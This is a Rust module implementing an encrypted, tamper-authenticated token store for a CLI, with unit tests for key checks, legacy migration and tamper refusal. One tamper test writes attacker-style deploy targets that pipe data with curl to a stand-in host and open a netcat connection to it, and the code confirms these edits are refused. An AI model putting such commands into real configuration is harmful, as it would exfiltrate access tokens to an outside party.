//! The encrypted local token store: named profiles (app, system user, token, expiry, scopes, deploy targets, watch
//! state) in one JSON file, mode 0600, replaced atomically under an advisory lock.
//!
//! The secret material (the token and the app secret) is encrypted with `suat_core::crypto::SecretBox`
//! (XChaCha20-Poly1305); each ciphertext is bound to its profile name, app and field as associated data, so it cannot
//! be moved to another profile. Metadata stays readable so the file can be audited without the key, but it is not
//! trusted without it: the whole document (format, KDF parameters, key check and every profile, deploy targets and
//! expiries included) is authenticated by `mac`, an AEAD tag under the store key over an empty plaintext with the
//! document as associated data. Any edit made without the key (a `cmd:` target added, an expiry moved) fails that
//! check, and every operation then refuses the file ([`ClientError::StoreTampered`]) before it reads or delivers
//! anything.
//!
//! Stores written before the tag existed (`suat-token-store/1`) are read only to be rewritten: [`TokenStore::open`]
//! checks their key, re-seals them as `suat-token-store/2` with the tag, and from then on only the new format is
//! accepted. The new format seals its key check and secrets under new associated data, so a `/2` file cannot be
//! passed off as a `/1` one by stripping its tag.

mod key;

pub use key::{KdfParams, StoreKey, KEY_ENV, PASSPHRASE_ENV};

use crate::{
    deploy::{Deployment, TargetSpec},
    error::ClientError,
    fsutil::{write_private_atomic, FileLock},
};
use serde::{Deserialize, Serialize};
use std::{
    collections::BTreeMap,
    fmt,
    path::{Path, PathBuf},
};
use suat_core::{crypto::SecretBox, AccessToken, AppId, AppSecret, UserId};

const FORMAT: &str = "suat-token-store/2";
/// The format before the whole document was authenticated; accepted by `open` only to rewrite it as [`FORMAT`].
const LEGACY_FORMAT: &str = "suat-token-store/1";
/// Sealed under the key to tell "wrong key" from "tampered profile" with a clear message.
const CHECK_PLAINTEXT: &[u8] = b"suat token store key check";

/// What `suat watch` remembers about a profile between passes (and across restarts).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct WatchState {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub last_rotated_at: Option<i64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub last_attempt_at: Option<i64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub last_error: Option<String>,
    #[serde(default)]
    pub consecutive_failures: u32,
    #[serde(default)]
    pub rotations: u64,
}

/// A profile in the clear. Debug is redacted through [`AccessToken`] and [`AppSecret`].
#[derive(Debug, Clone)]
pub struct Profile {
    pub name: String,
    pub app_id: AppId,
    pub system_user_id: Option<UserId>,
    /// debug_token's `type` (`SYSTEM_USER`, `PAGE`...).
    pub kind: Option<String>,
    pub token: AccessToken,
    /// Needed to refresh, rotate and send appsecret_proof.
    pub app_secret: Option<AppSecret>,
    pub issued_at: Option<i64>,
    /// `None` = never expires.
    pub expires_at: Option<i64>,
    pub scopes: Vec<String>,
    /// Where rotation deploys this profile's new token (besides this profile itself).
    pub targets: Vec<TargetSpec>,
    pub watch: WatchState,
}

impl Profile {
    /// A fresh profile with no secret, targets or history.
    pub fn new(name: &str, app_id: AppId, token: AccessToken) -> Profile {
        Profile {
            name: name.to_owned(),
            app_id,
            system_user_id: None,
            kind: None,
            token,
            app_secret: None,
            issued_at: None,
            expires_at: None,
            scopes: vec![],
            targets: vec![],
            watch: WatchState::default(),
        }
    }
}

#[derive(Serialize, Deserialize)]
struct StoreFile {
    format: String,
    kdf: KdfParams,
    /// Hex of the sealed [`CHECK_PLAINTEXT`].
    check: String,
    #[serde(default)]
    profiles: BTreeMap<String, ProfileRecord>,
    /// Hex of the tag over everything above ([`TokenStore::tag_aad`]); absent only in the legacy format.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    mac: Option<String>,
}

/// What the tag covers: the document as parsed, so whatever the program believes is what was authenticated.
#[derive(Serialize)]
struct Authenticated<'a> {
    format: &'a str,
    kdf: &'a KdfParams,
    check: &'a str,
    profiles: &'a BTreeMap<String, ProfileRecord>,
}

/// A profile as written: secrets sealed, hex-encoded.
#[derive(Serialize, Deserialize)]
struct ProfileRecord {
    app_id: AppId,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    system_user_id: Option<UserId>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    kind: Option<String>,
    token: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    app_secret: Option<String>,
    #[serde(default)]
    issued_at: Option<i64>,
    #[serde(default)]
    expires_at: Option<i64>,
    #[serde(default)]
    scopes: Vec<String>,
    #[serde(default)]
    targets: Vec<TargetSpec>,
    #[serde(default)]
    watch: WatchState,
}

/// A handle on a store file. Cheap to clone; every operation re-reads the file under the lock, so concurrent
/// `suat` processes (a `watch` and a manual `rotate`) see each other's writes.
#[derive(Clone)]
pub struct TokenStore {
    path: PathBuf,
    sbox: SecretBox,
}

impl fmt::Debug for TokenStore {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("TokenStore").field("path", &self.path).finish_non_exhaustive()
    }
}

/// Profile names become file-safe labels and Prometheus label values: keep them plain.
pub fn validate_profile_name(name: &str) -> Result<(), ClientError> {
    let ok = !name.is_empty()
        && name.len() <= 64
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
        && name.as_bytes()[0].is_ascii_alphanumeric();
    if ok {
        Ok(())
    } else {
        Err(ClientError::Invalid(format!(
            "invalid profile name {name:?}: use 1-64 letters, digits, '-', '_' or '.', starting with a letter or digit"
        )))
    }
}

/// `$XDG_CONFIG_HOME/suat/tokens.json`, else `~/.config/suat/tokens.json`.
pub fn default_store_path() -> PathBuf {
    let base = std::env::var_os("XDG_CONFIG_HOME")
        .filter(|v| !v.is_empty())
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".config")))
        .unwrap_or_else(|| PathBuf::from("."));
    base.join("suat").join("tokens.json")
}

fn aad(format: &str, profile: &str, app: AppId, field: &str) -> Vec<u8> {
    format!("{format}|{profile}|{app}|{field}").into_bytes()
}

impl TokenStore {
    /// Opens the store at `path`, creating it (and its directory, mode 0700) if missing. Fails with
    /// [`ClientError::StoreKey`] if `key` does not open an existing store.
    pub fn open(path: &Path, key: &StoreKey) -> Result<TokenStore, ClientError> {
        if let Some(dir) = path.parent().filter(|d| !d.as_os_str().is_empty()) {
            if !dir.exists() {
                let mut b = std::fs::DirBuilder::new();
                b.recursive(true);
                #[cfg(unix)]
                {
                    use std::os::unix::fs::DirBuilderExt;
                    b.mode(0o700);
                }
                b.create(dir).map_err(|e| ClientError::io(dir, e))?;
            }
        }
        let _lock = FileLock::acquire(path)?;
        let existing = read_file(path)?;
        let kdf = match &existing {
            Some(f) if f.format == FORMAT || f.format == LEGACY_FORMAT => f.kdf.clone(),
            Some(f) => {
                return Err(store_err(path, format!("unknown format {:?} (expected {FORMAT})", f.format)));
            }
            None => KdfParams::generate(),
        };
        let sbox = SecretBox::new(&key.derive(&kdf)?);
        let store = TokenStore { path: path.to_path_buf(), sbox };
        match existing {
            Some(f) => {
                // The key check first: a wrong key must say so, not "tampered".
                let sealed = hex::decode(&f.check).map_err(|_| store_err(path, "corrupt key check".into()))?;
                match store.sbox.open(f.format.as_bytes(), &sealed) {
                    Ok(p) if p == CHECK_PLAINTEXT => {}
                    _ => return Err(ClientError::StoreKey { path: path.display().to_string() }),
                }
                if f.format == LEGACY_FORMAT {
                    store.migrate(f)?;
                } else {
                    store.verify(&f)?;
                }
                #[cfg(unix)]
                if let Ok(m) = crate::fsutil::mode(path) {
                    if m & 0o077 != 0 {
                        tracing::warn!(path = %path.display(), mode = format!("{m:o}"), "token store is readable by others; it will be rewritten 0600");
                    }
                }
            }
            None => {
                let check = hex::encode(store.sbox.seal(&mut rand::rngs::OsRng, FORMAT.as_bytes(), CHECK_PLAINTEXT));
                let mut f = StoreFile { format: FORMAT.into(), kdf, check, profiles: BTreeMap::new(), mac: None };
                store.write(&mut f)?;
            }
        }
        Ok(store)
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Every profile, decrypted, by name.
    pub fn list(&self) -> Result<Vec<Profile>, ClientError> {
        let _lock = FileLock::acquire(&self.path)?;
        let f = self.load()?;
        f.profiles.iter().map(|(n, r)| self.decrypt(n, r)).collect()
    }

    /// The profile, or `None`.
    pub fn find(&self, name: &str) -> Result<Option<Profile>, ClientError> {
        let _lock = FileLock::acquire(&self.path)?;
        let f = self.load()?;
        f.profiles.get(name).map(|r| self.decrypt(name, r)).transpose()
    }

    /// The profile, or [`ClientError::NoProfile`].
    pub fn get(&self, name: &str) -> Result<Profile, ClientError> {
        self.find(name)?.ok_or_else(|| ClientError::NoProfile(name.to_owned()))
    }

    /// Inserts or replaces a profile.
    pub fn put(&self, profile: &Profile) -> Result<(), ClientError> {
        validate_profile_name(&profile.name)?;
        let _lock = FileLock::acquire(&self.path)?;
        let mut f = self.load()?;
        f.profiles.insert(profile.name.clone(), self.encrypt(profile));
        self.write(&mut f)
    }

    /// Read-modify-write of one profile under the lock; `f` may not rename it.
    pub fn update(&self, name: &str, f: impl FnOnce(&mut Profile)) -> Result<Profile, ClientError> {
        let _lock = FileLock::acquire(&self.path)?;
        let mut file = self.load()?;
        let rec = file.profiles.get(name).ok_or_else(|| ClientError::NoProfile(name.to_owned()))?;
        let mut p = self.decrypt(name, rec)?;
        f(&mut p);
        p.name = name.to_owned();
        file.profiles.insert(name.to_owned(), self.encrypt(&p));
        self.write(&mut file)?;
        Ok(p)
    }

    /// Updates the profile with `f`, creating it from `create` first if missing, all under one lock.
    pub fn upsert(
        &self,
        name: &str,
        create: impl FnOnce() -> Profile,
        f: impl FnOnce(&mut Profile),
    ) -> Result<Profile, ClientError> {
        validate_profile_name(name)?;
        let _lock = FileLock::acquire(&self.path)?;
        let mut file = self.load()?;
        let mut p = match file.profiles.get(name) {
            Some(rec) => self.decrypt(name, rec)?,
            None => create(),
        };
        f(&mut p);
        p.name = name.to_owned();
        file.profiles.insert(name.to_owned(), self.encrypt(&p));
        self.write(&mut file)?;
        Ok(p)
    }

    /// Puts a token and what is known about it into a profile, creating the profile if missing; an existing
    /// profile keeps its targets, watch state and (unless `secret` is given) its app secret.
    pub fn save_token(&self, name: &str, d: &Deployment, secret: Option<AppSecret>) -> Result<Profile, ClientError> {
        self.upsert(
            name,
            || Profile::new(name, d.app_id, d.token.clone()),
            |p| {
                p.app_id = d.app_id;
                p.token = d.token.clone();
                p.system_user_id = d.system_user_id.or(p.system_user_id);
                p.kind = d.kind.clone().or(p.kind.take());
                p.issued_at = d.issued_at;
                p.expires_at = d.expires_at;
                p.scopes = d.scopes.clone();
                if secret.is_some() {
                    p.app_secret = secret;
                }
            },
        )
    }

    /// Removes a profile; `false` if there was none.
    pub fn remove(&self, name: &str) -> Result<bool, ClientError> {
        let _lock = FileLock::acquire(&self.path)?;
        let mut f = self.load()?;
        let had = f.profiles.remove(name).is_some();
        if had {
            self.write(&mut f)?;
        }
        Ok(had)
    }

    /// The file, refused unless its tag verifies: nothing in it is used before that.
    fn load(&self) -> Result<StoreFile, ClientError> {
        let f = read_file(&self.path)?.ok_or_else(|| store_err(&self.path, "the store file disappeared".into()))?;
        self.verify(&f)?;
        Ok(f)
    }

    fn tag_aad(f: &StoreFile) -> Vec<u8> {
        let doc = Authenticated { format: &f.format, kdf: &f.kdf, check: &f.check, profiles: &f.profiles };
        let mut aad = format!("{FORMAT}|document|").into_bytes();
        aad.extend(serde_json::to_vec(&doc).expect("the store document serializes"));
        aad
    }

    /// A legacy file here (after `open` rewrote it) or a missing tag is as untrusted as a wrong one.
    fn verify(&self, f: &StoreFile) -> Result<(), ClientError> {
        let tampered = || ClientError::StoreTampered { path: self.path.display().to_string() };
        if f.format != FORMAT {
            return Err(tampered());
        }
        let tag = hex::decode(f.mac.as_deref().ok_or_else(tampered)?).map_err(|_| tampered())?;
        match self.sbox.open(&Self::tag_aad(f), &tag) {
            Ok(p) if p.is_empty() => Ok(()),
            _ => Err(tampered()),
        }
    }

    /// Rewrites a legacy (`/1`) store as [`FORMAT`]: secrets and key check re-sealed under the new associated data,
    /// the whole document tagged. Its key was checked by the caller.
    fn migrate(&self, old: StoreFile) -> Result<(), ClientError> {
        let mut profiles = BTreeMap::new();
        for (name, rec) in &old.profiles {
            let p = self.decrypt_as(LEGACY_FORMAT, name, rec)?;
            profiles.insert(name.clone(), self.encrypt(&p));
        }
        let check = hex::encode(self.sbox.seal(&mut rand::rngs::OsRng, FORMAT.as_bytes(), CHECK_PLAINTEXT));
        let mut f = StoreFile { format: FORMAT.into(), kdf: old.kdf, check, profiles, mac: None };
        self.write(&mut f)?;
        tracing::info!(path = %self.path.display(), "token store rewritten as {FORMAT}: the whole file is now authenticated");
        Ok(())
    }

    /// Tags the document and replaces the file with it.
    fn write(&self, f: &mut StoreFile) -> Result<(), ClientError> {
        f.format = FORMAT.into();
        f.mac = Some(hex::encode(self.sbox.seal(&mut rand::rngs::OsRng, &Self::tag_aad(f), b"")));
        let mut bytes = serde_json::to_vec_pretty(f).map_err(|e| store_err(&self.path, e.to_string()))?;
        bytes.push(b'\n');
        write_private_atomic(&self.path, &bytes)
    }

    fn seal(&self, profile: &str, app: AppId, field: &str, plaintext: &str) -> String {
        hex::encode(self.sbox.seal(&mut rand::rngs::OsRng, &aad(FORMAT, profile, app, field), plaintext.as_bytes()))
    }

    fn unseal(
        &self,
        format: &str,
        profile: &str,
        app: AppId,
        field: &str,
        sealed: &str,
    ) -> Result<String, ClientError> {
        let bad = || store_err(&self.path, format!("profile {profile:?}: {field} does not decrypt (tampered file?)"));
        let raw = hex::decode(sealed).map_err(|_| bad())?;
        let plain = self.sbox.open(&aad(format, profile, app, field), &raw).map_err(|_| bad())?;
        String::from_utf8(plain).map_err(|_| bad())
    }

    fn encrypt(&self, p: &Profile) -> ProfileRecord {
        ProfileRecord {
            app_id: p.app_id,
            system_user_id: p.system_user_id,
            kind: p.kind.clone(),
            token: self.seal(&p.name, p.app_id, "token", p.token.expose()),
            app_secret: p.app_secret.as_ref().map(|s| self.seal(&p.name, p.app_id, "app_secret", s.expose())),
            issued_at: p.issued_at,
            expires_at: p.expires_at,
            scopes: p.scopes.clone(),
            targets: p.targets.clone(),
            watch: p.watch.clone(),
        }
    }

    fn decrypt(&self, name: &str, r: &ProfileRecord) -> Result<Profile, ClientError> {
        self.decrypt_as(FORMAT, name, r)
    }

    fn decrypt_as(&self, format: &str, name: &str, r: &ProfileRecord) -> Result<Profile, ClientError> {
        Ok(Profile {
            name: name.to_owned(),
            app_id: r.app_id,
            system_user_id: r.system_user_id,
            kind: r.kind.clone(),
            token: AccessToken::from_presented(self.unseal(format, name, r.app_id, "token", &r.token)?),
            app_secret: match &r.app_secret {
                Some(s) => Some(AppSecret::new(self.unseal(format, name, r.app_id, "app_secret", s)?)),
                None => None,
            },
            issued_at: r.issued_at,
            expires_at: r.expires_at,
            scopes: r.scopes.clone(),
            targets: r.targets.clone(),
            watch: r.watch.clone(),
        })
    }
}

fn store_err(path: &Path, reason: String) -> ClientError {
    ClientError::Store { path: path.display().to_string(), reason }
}

fn read_file(path: &Path) -> Result<Option<StoreFile>, ClientError> {
    match std::fs::read(path) {
        Ok(b) => serde_json::from_slice(&b).map(Some).map_err(|e| store_err(path, format!("not a token store: {e}"))),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(ClientError::io(path, e)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn key() -> StoreKey {
        StoreKey::Raw([9; 32])
    }

    fn sample(name: &str) -> Profile {
        let mut p = Profile::new(name, AppId(11), AccessToken::from_presented("EAAtopsecrettoken"));
        p.app_secret = Some(AppSecret::new("appsecretvalue"));
        p.system_user_id = Some(UserId(22));
        p.expires_at = Some(1000);
        p.scopes = vec!["ads_read".into()];
        p.targets = vec!["file:/tmp/x".parse().unwrap()];
        p
    }

    #[test]
    fn round_trips_and_keeps_secrets_out_of_the_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("sub/tokens.json");
        let s = TokenStore::open(&path, &key()).unwrap();
        s.put(&sample("prod")).unwrap();
        let back = s.get("prod").unwrap();
        assert_eq!(back.token.expose(), "EAAtopsecrettoken");
        assert_eq!(back.app_secret.as_ref().unwrap().expose(), "appsecretvalue");
        assert_eq!((back.system_user_id, back.expires_at), (Some(UserId(22)), Some(1000)));
        assert_eq!(back.targets, sample("prod").targets);
        let raw = std::fs::read_to_string(&path).unwrap();
        assert!(!raw.contains("topsecret") && !raw.contains("appsecretvalue"), "{raw}");
        #[cfg(unix)]
        assert_eq!(crate::fsutil::mode(&path).unwrap(), 0o600);
        assert!(!format!("{back:?}").contains("EAAtopsecrettoken"));
    }

    #[test]
    fn wrong_key_is_a_clear_error() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("tokens.json");
        TokenStore::open(&path, &key()).unwrap().put(&sample("a")).unwrap();
        assert!(matches!(TokenStore::open(&path, &StoreKey::Raw([1; 32])), Err(ClientError::StoreKey { .. })));
        assert!(TokenStore::open(&path, &key()).is_ok());
    }

    #[test]
    fn ciphertexts_cannot_move_between_profiles() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("tokens.json");
        let s = TokenStore::open(&path, &key()).unwrap();
        s.put(&sample("a")).unwrap();
        s.put(&sample("b")).unwrap();
        let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        v["profiles"]["b"]["token"] = v["profiles"]["a"]["token"].clone();
        std::fs::write(&path, serde_json::to_vec(&v).unwrap()).unwrap();
        assert!(matches!(s.get("b"), Err(ClientError::StoreTampered { .. })));
    }

    /// Edits an attacker without the key could make: each must be refused by every operation, and leave the file
    /// as the attacker left it (nothing re-tagged, nothing delivered).
    #[test]
    fn any_edit_without_the_key_is_refused_by_every_operation() {
        type Edit = fn(&mut serde_json::Value);
        let edits: [(&str, Edit); 6] = [
            ("deploy target changed", |v| v["profiles"]["prod"]["targets"][0] = "cmd:curl -d@- evil.example".into()),
            ("deploy target added", |v| {
                v["profiles"]["prod"]["targets"].as_array_mut().unwrap().push("cmd:nc evil.example 1".into())
            }),
            ("expiry edited", |v| v["profiles"]["prod"]["expires_at"] = 99_999_999_999i64.into()),
            ("tag removed", |v| {
                v.as_object_mut().unwrap().remove("mac");
            }),
            ("profile removed", |v| {
                v["profiles"].as_object_mut().unwrap().remove("other");
            }),
            ("tag replaced by a legacy format", |v| {
                v["format"] = LEGACY_FORMAT.into();
                v.as_object_mut().unwrap().remove("mac");
            }),
        ];
        for (what, edit) in edits {
            let dir = tempfile::tempdir().unwrap();
            let path = dir.path().join("tokens.json");
            let s = TokenStore::open(&path, &key()).unwrap();
            s.put(&sample("prod")).unwrap();
            s.put(&sample("other")).unwrap();
            let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
            edit(&mut v);
            let tampered = serde_json::to_vec_pretty(&v).unwrap();
            std::fs::write(&path, &tampered).unwrap();

            let message = format!(
                "token store {}: modified without the store key (the authentication tag does not match); refusing to use it",
                path.display()
            );
            let refused = |r: Result<(), ClientError>| match r {
                Err(e @ ClientError::StoreTampered { .. }) => assert_eq!(e.to_string(), message, "{what}"),
                Err(ClientError::StoreKey { .. }) if what.contains("legacy") => {}
                other => panic!("{what}: expected a refusal, got {other:?}"),
            };
            refused(TokenStore::open(&path, &key()).map(|_| ()));
            if !what.contains("legacy") {
                refused(s.get("prod").map(|_| ()));
                refused(s.list().map(|_| ()));
                refused(s.update("prod", |p| p.watch.rotations += 1).map(|_| ()));
                refused(s.put(&sample("new")));
                refused(s.remove("other").map(|_| ()));
            }
            assert_eq!(std::fs::read(&path).unwrap(), tampered, "{what}: the file is left as found");
        }
    }

    /// Writes a store as the release before the whole-document tag did (`suat-token-store/1`).
    fn write_legacy(path: &Path, k: &StoreKey) {
        let kdf = KdfParams::generate();
        let sbox = SecretBox::new(&k.derive(&kdf).unwrap());
        let seal = |aad: &[u8], pt: &[u8]| hex::encode(sbox.seal(&mut rand::rngs::OsRng, aad, pt));
        let p = sample("prod");
        let rec = ProfileRecord {
            app_id: p.app_id,
            system_user_id: p.system_user_id,
            kind: None,
            token: seal(&aad(LEGACY_FORMAT, "prod", p.app_id, "token"), b"EAAtopsecrettoken"),
            app_secret: Some(seal(&aad(LEGACY_FORMAT, "prod", p.app_id, "app_secret"), b"appsecretvalue")),
            issued_at: None,
            expires_at: p.expires_at,
            scopes: p.scopes.clone(),
            targets: p.targets.clone(),
            watch: WatchState::default(),
        };
        let f = StoreFile {
            format: LEGACY_FORMAT.into(),
            kdf,
            check: seal(LEGACY_FORMAT.as_bytes(), CHECK_PLAINTEXT),
            profiles: BTreeMap::from([("prod".to_owned(), rec)]),
            mac: None,
        };
        std::fs::write(path, serde_json::to_vec_pretty(&f).unwrap()).unwrap();
    }

    #[test]
    fn a_legacy_store_is_read_once_and_rewritten_authenticated() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("tokens.json");
        write_legacy(&path, &key());
        assert!(matches!(TokenStore::open(&path, &StoreKey::Raw([1; 32])), Err(ClientError::StoreKey { .. })));
        assert!(std::fs::read_to_string(&path).unwrap().contains(LEGACY_FORMAT), "a wrong key migrates nothing");

        let s = TokenStore::open(&path, &key()).unwrap();
        let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        assert_eq!(v["format"], FORMAT);
        assert!(v["mac"].is_string());
        let p = s.get("prod").unwrap();
        assert_eq!((p.token.expose(), p.app_secret.unwrap().expose()), ("EAAtopsecrettoken", "appsecretvalue"));
        assert_eq!((p.expires_at, p.targets), (Some(1000), sample("prod").targets));

        // Once rewritten, an edit is refused like in any other store.
        let mut v = v;
        v["profiles"]["prod"]["expires_at"] = 5.into();
        std::fs::write(&path, serde_json::to_vec(&v).unwrap()).unwrap();
        assert!(matches!(s.get("prod"), Err(ClientError::StoreTampered { .. })));
    }

    #[test]
    fn update_remove_and_missing_profiles() {
        let dir = tempfile::tempdir().unwrap();
        let s = TokenStore::open(&dir.path().join("t.json"), &key()).unwrap();
        s.put(&sample("a")).unwrap();
        let p = s.update("a", |p| p.watch.rotations += 1).unwrap();
        assert_eq!(p.watch.rotations, 1);
        assert_eq!(s.get("a").unwrap().watch.rotations, 1);
        assert!(matches!(s.update("zz", |_| {}), Err(ClientError::NoProfile(_))));
        assert!(s.remove("a").unwrap());
        assert!(!s.remove("a").unwrap());
        assert!(s.list().unwrap().is_empty());
        assert!(s.put(&sample("../evil")).is_err());
    }

    #[test]
    fn passphrase_stores_reopen_with_the_same_passphrase() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("t.json");
        let pass = StoreKey::Passphrase("open sesame".into());
        TokenStore::open(&path, &pass).unwrap().put(&sample("a")).unwrap();
        assert_eq!(TokenStore::open(&path, &pass).unwrap().get("a").unwrap().token.expose(), "EAAtopsecrettoken");
        assert!(matches!(
            TokenStore::open(&path, &StoreKey::Passphrase("close sesame".into())),
            Err(ClientError::StoreKey { .. })
        ));
    }
}
